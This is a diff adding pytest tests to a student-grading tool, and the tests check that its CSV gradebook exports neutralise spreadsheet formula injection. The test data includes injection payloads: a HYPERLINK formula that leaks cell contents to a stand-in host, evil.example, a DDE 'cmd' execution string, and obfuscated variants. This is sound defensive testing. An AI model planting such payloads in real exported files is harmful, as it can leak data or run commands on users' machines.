@@ -3,16 +3,21 @@ a time (the end-to-end export is in test_gradebook_export.py)."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import os
+import re
 import subprocess
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
 
-from grader import results
-from grader.gradebook import book, lms, settings, students, times
+from grader import results, spreadsheet
+from grader.formats import render
+from grader.gradebook import book, gradebook, lms, settings, students, times
 from grader.gradebook.policy import (
     GradebookError,
     LatePenalty,
@@ -369,3 +374,96 @@ def test_canvas_needs_a_canvas_id_for_every_student(tmp_path):
     with pytest.raises(GradebookError, match="no ID, SIS User ID, SIS Login ID for alice"):
         lms.render("canvas", result)
     assert lms.render("csv", result).splitlines()[1].startswith("alice,alice,yes,40,")
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("https://evil.example/?"&A2,"grades")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=2",
+    "\r=1",
+    "  =1+1",
+    '=1+1,"quoted",\n=2',
+    "=cmd|' /C calc'!A0",
+    "\uff1dSUM(A1)",
+    'Bob\r=HYPERLINK("https://evil.example/")',
+]
+"""Names a spreadsheet would run as formulas (quotes, a comma and a line break included)."""
+FORMULA = re.compile(r"[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+
+
+def formulas(text: str) -> list[str]:
+    """The cells of a CSV text that a spreadsheet would take as a formula."""
+    return [c for row in csv.reader(io.StringIO(text)) for c in row if FORMULA.match(c)]
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_a_formula_is_written_as_text(name):
+    """Is a text that a spreadsheet would run written with a leading ' and otherwise whole
+    (a carriage return as a line break, which the CSV writer quotes)?"""
+    assert spreadsheet.cell(name).lstrip("'") == name.replace("\r", "\n")
+    assert formulas(spreadsheet.csv_text([[name]])) == []
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [(-1.5, -1.5), (20, 20), (0, 0), (None, ""), ("Adams, Alice", "Adams, Alice"),
+     (lms.POINTS_POSSIBLE, lms.POINTS_POSSIBLE), (float("-inf"), "'-inf"), ("a=1", "a=1")],
+)  # fmt: skip
+def test_numbers_stay_numbers_and_plain_text_stays(value, written):
+    """Does a number (a negative one too) stay a number, and plain text stay as it is?"""
+    assert spreadsheet.cell(value) == written
+    assert type(spreadsheet.cell(value)) is type(written)
+
+
+def test_no_csv_the_kit_writes_holds_a_formula(tmp_path):
+    """With a roster and submissions named as formulas (and a formula as the assignment),
+    does no cell of grader gradebook's canvas, moodle and csv files, nor of grader run's
+    --format csv, read as a formula, every name still there after its ', and every score
+    cell a number?"""
+    roster = tmp_path / "roster.csv"
+    columns = [*lms.CANVAS_COLUMNS, "Email address"]
+    with roster.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(columns)
+        for number, name in enumerate(HOSTILE_NAMES):
+            writer.writerow([name, 1000 + number, name, name, name, name])
+    stored_results = tmp_path / "results"
+    stored_results.mkdir()
+    scored = [stored(name, 20 - number, 7.5) for number, name in enumerate(HOSTILE_NAMES)]
+    for number, result in enumerate(scored):
+        (stored_results / f"{number}.json").write_text(json.dumps(result.to_dict()))
+    config = write(tmp_path / "grader.toml", '[gradebook]\nassignment = "=1+1"\n')
+    written = {"run --format csv": render("csv", scored)}
+    for fmt in lms.FORMATS:
+        paths = gradebook(stored_results, fmt=fmt, roster=roster, config=config,
+                          dest=tmp_path / fmt, stream=io.StringIO())  # fmt: skip
+        written[fmt] = paths[fmt].read_text()
+    numbers = {
+        "canvas": ["'=1+1"],
+        "moodle": ["'=1+1"],
+        "csv": ["raw_score", "score_after_override", "final_score", "max_score"],
+        "run --format csv": ["ex1", "ex2", "total", "max_score", "not_graded"],
+    }
+    for what, text in written.items():
+        assert formulas(text) == [], what
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert len(rows) >= len(HOSTILE_NAMES) and set(numbers[what]) <= set(rows[0]), what
+        scores = [row[column] for row in rows for column in numbers[what] if row[column]]
+        assert scores and all(isinstance(float(score), float) for score in scores), what
+    names = [r["student"] for r in csv.DictReader(io.StringIO(written["csv"]))]
+    assert {n.removeprefix("'") for n in names} >= {
+        n.strip().replace("\r", "\n") for n in HOSTILE_NAMES
+    }
+
+
+def test_every_csv_writer_is_the_spreadsheet_ones():
+    """Does every CSV the package writes go through grader.spreadsheet (no other writer)?"""
+    package = Path(results.__file__).parent
+    writers = [
+        p.relative_to(package).as_posix()
+        for p in package.rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
+    ]
+    assert writers == ["spreadsheet.py"]
